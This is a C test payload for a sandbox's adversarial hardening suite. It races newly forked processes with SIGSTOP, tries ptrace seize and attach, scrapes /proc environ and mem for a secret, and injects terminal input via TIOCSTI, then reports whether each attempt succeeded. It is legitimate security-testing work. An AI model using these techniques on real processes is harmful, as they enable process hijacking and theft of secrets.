/* Hostile payload for the hardening tests (tests/adversarial/harden.cmake).
 * Runs inside a burrow sandbox as the attacker would. Secrets are passed
 * reversed, so that the needle itself is in no sandbox process's argv.
 *
 *   watch-join REVERSED_SECRET OUT SECONDS
 *       stops every new process (the next pid) at once; while it still
 *       runs burrow (a joining `burrow enter` before its exec) tries, step
 *       by step (SIGCONT, SIGSTOP), PTRACE_SEIZE, PTRACE_ATTACH,
 *       /proc/PID/environ and /proc/PID/mem; one line per joiner in OUT
 *       ("hijack=1": one of them worked before the exec; "leak=1": the
 *       secret was read). Ends after SECONDS or when OUT.stop exists.
 *   scan-mem PID REVERSED_SECRET
 *       prints "mem=ok|<errno name> found=0|1" for /proc/PID/mem.
 *   tiocsti
 *       pushes "echo INJECTED\n" into its terminal (fd 0 and /dev/tty),
 *       prints "tiocsti0=ok|<errno>" and "tiocsti_tty=...".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char needle[512];

static void unreverse(const char* r) {
    size_t n = strlen(r);
    if (n >= sizeof needle) n = sizeof needle - 1;
    for (size_t i = 0; i < n; ++i) needle[i] = r[n - 1 - i];
    needle[n] = 0;
}

static const char* err_name(int e) {
    return e == 0 ? "ok" : strerrorname_np(e) ? strerrorname_np(e) : "E?";
}

static int read_all(const char* path, char* buf, size_t cap, int* err) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        *err = errno;
        return -1;
    }
    size_t n = 0;
    for (;;) {
        ssize_t r = read(fd, buf + n, cap - 1 - n);
        if (r <= 0) break;
        n += (size_t)r;
        if (n + 1 >= cap) break;
    }
    buf[n] = 0;
    close(fd);
    *err = 0;
    return (int)n;
}

static int memfind(const char* hay, size_t n, const char* nd) {
    size_t m = strlen(nd);
    return m && memmem(hay, n, nd, m) != NULL;
}

/* 1 found, 0 not found; *err: errno of opening mem/maps (0: readable). */
static int scan_mem(pid_t pid, int* err) {
    char path[64], maps[1 << 16];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int mem = open(path, O_RDONLY | O_CLOEXEC);
    if (mem < 0) {
        *err = errno;
        return 0;
    }
    snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
    int merr;
    if (read_all(path, maps, sizeof maps, &merr) < 0) {
        *err = merr;
        close(mem);
        return 0;
    }
    *err = 0;
    int found = 0;
    static char buf[1 << 20];
    for (char* line = maps; line && *line && !found;) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r') {
            for (unsigned long a = lo; a < hi && !found;) {
                size_t want = hi - a < sizeof buf ? hi - a : sizeof buf;
                ssize_t r = pread(mem, buf, want, (off_t)a);
                if (r <= 0) break;
                found = memfind(buf, (size_t)r, needle);
                /* overlap so that a needle across chunks is still found */
                a += (unsigned long)r > 512 ? (unsigned long)r - 512 : (unsigned long)r;
                if ((size_t)r < want) break;
            }
        }
        line = strchr(line, '\n');
        if (line) ++line;
    }
    close(mem);
    return found;
}

static void comm_of(pid_t pid, char* out, size_t cap) {
    char path[64];
    int e;
    snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
    if (read_all(path, out, cap, &e) < 0) out[0] = 0;
    out[strcspn(out, "\n")] = 0;
}

/* 1 once pid is in stopped state; 0 if it is gone. */
static int wait_stopped(pid_t pid) {
    for (int i = 0; i < 2000; ++i) {
        char st[512];
        int e;
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
        if (read_all(path, st, sizeof st, &e) < 0) return 0;
        const char* p = strrchr(st, ')');
        if (p && (p[2] == 'T' || p[2] == 't')) return 1;
        if (p && (p[2] == 'Z' || p[2] == 'X')) return 0;
        usleep(100);
    }
    return 1;
}

static int still_burrow(pid_t pid) {
    char comm[64];
    comm_of(pid, comm, sizeof comm);
    return strncmp(comm, "burrow", 6) == 0;
}

/* The joiner is stopped as soon as it is seen; while stopped, and then
 * while it runs on (a tight loop until it no longer runs burrow), every
 * attempt: PTRACE_SEIZE (then PTRACE_INTERRUPT, to look at what it runs),
 * PTRACE_ATTACH, its environment, its memory. Any success while it still
 * runs burrow is a hijack (hijack=1); the secret read anywhere is leak=1. */
static void attack(pid_t pid, FILE* out) {
    if (kill(pid, SIGSTOP) != 0) return;
    if (!wait_stopped(pid) || !still_burrow(pid)) {
        kill(pid, SIGCONT);
        return;
    }
    int seize = 0, attach = 0, env_err = 0, mem_err = 0, leak = 0, tries = 0, hit = 0;
    static char env[1 << 18];
    char env_path[64];
    snprintf(env_path, sizeof env_path, "/proc/%d/environ", (int)pid);
    /* Stopped: everything, once. */
    seize = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 ? 0 : errno;
    if (seize == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
    attach = ptrace(PTRACE_ATTACH, pid, 0, 0) == 0 ? 0 : errno;
    if (attach == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, SIGSTOP);
    }
    int n = read_all(env_path, env, sizeof env, &env_err);
    if (n > 0 && memfind(env, (size_t)n, needle)) leak = 1;
    if (scan_mem(pid, &mem_err)) leak = 1;
    hit = seize == 0 || attach == 0 || env_err == 0 || mem_err == 0;
    kill(pid, SIGCONT);
    /* Running: race it to its exec. */
    for (; !hit && tries < 1000000; ++tries) {
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            waitpid(pid, NULL, __WALL);
            hit = still_burrow(pid);
            seize = 0;
            ptrace(PTRACE_DETACH, pid, 0, 0);
            break;
        }
        seize = errno;
        int fd = open(env_path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            kill(pid, SIGSTOP);
            const int burrow = wait_stopped(pid) && still_burrow(pid);
            ssize_t r = read(fd, env, sizeof env);
            if (r > 0 && memfind(env, (size_t)r, needle)) leak = 1;
            close(fd);
            kill(pid, SIGCONT);
            env_err = 0;
            hit = burrow;
            break;
        }
        env_err = errno;
        if ((tries & 15) == 0 && !still_burrow(pid)) break;
    }
    fprintf(out, "pid=%d hijack=%d tries=%d seize=%s attach=%s environ=%s mem=%s leak=%d\n",
            (int)pid, hit, tries, err_name(seize), err_name(attach), err_name(env_err),
            err_name(mem_err), leak);
    fflush(out);
}

static long last_pid(void) {
    char b[32];
    int e;
    return read_all("/proc/sys/kernel/ns_last_pid", b, sizeof b, &e) > 0 ? atol(b) : 0;
}

/* The next pid of the sandbox's pid namespace is the joiner's: kill(SIGSTOP)
 * is tried on it in a tight loop, so it is stopped within microseconds of
 * its fork, long before its exec. */
static int watch_join(const char* out_path, int seconds) {
    FILE* out = fopen(out_path, "w");
    if (!out) return 2;
    char stop_path[4096];
    snprintf(stop_path, sizeof stop_path, "%s.stop", out_path);
    fprintf(out, "ready\n");
    fflush(out);
    const time_t end = time(NULL) + seconds;
    struct stat st;
    pid_t next = (pid_t)last_pid() + 1;
    for (;;) {
        unsigned long i = 0;
        while (kill(next, SIGSTOP) != 0) {
            if ((++i & 0xfff) != 0) continue;
            if (time(NULL) >= end || stat(stop_path, &st) == 0) goto done;
            const pid_t l = (pid_t)last_pid();
            if (l >= next) next = l + 1; /* missed one: wait for the one after */
        }
        if (next != getpid()) attack(next, out);
        next = next + 1;
        const pid_t l = (pid_t)last_pid();
        if (l >= next) next = l + 1;
    }
done:
    fprintf(out, "done\n");
    fclose(out);
    return 0;
}

static int tiocsti(void) {
    const char* s = "echo INJECTED\n";
    int e0 = 0, et = 0;
    for (const char* p = s; *p; ++p)
        if (ioctl(0, TIOCSTI, p) != 0) {
            e0 = errno;
            break;
        }
    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (tty < 0) {
        et = errno;
    } else {
        for (const char* p = s; *p; ++p)
            if (ioctl(tty, TIOCSTI, p) != 0) {
                et = errno;
                break;
            }
        close(tty);
    }
    printf("tiocsti0=%s tiocsti_tty=%s\n", err_name(e0), err_name(et));
    return 0;
}

int main(int argc, char** argv) {
    if (argc >= 5 && strcmp(argv[1], "watch-join") == 0) {
        unreverse(argv[2]);
        return watch_join(argv[3], atoi(argv[4]));
    }
    if (argc >= 4 && strcmp(argv[1], "scan-mem") == 0) {
        unreverse(argv[3]);
        int err;
        int found = scan_mem((pid_t)atoi(argv[2]), &err);
        printf("mem=%s found=%d\n", err_name(err), found);
        return 0;
    }
    if (argc >= 2 && strcmp(argv[1], "tiocsti") == 0) return tiocsti();
    fprintf(stderr, "usage: harden_hostile watch-join|scan-mem|tiocsti ...\n");
    return 2;
}
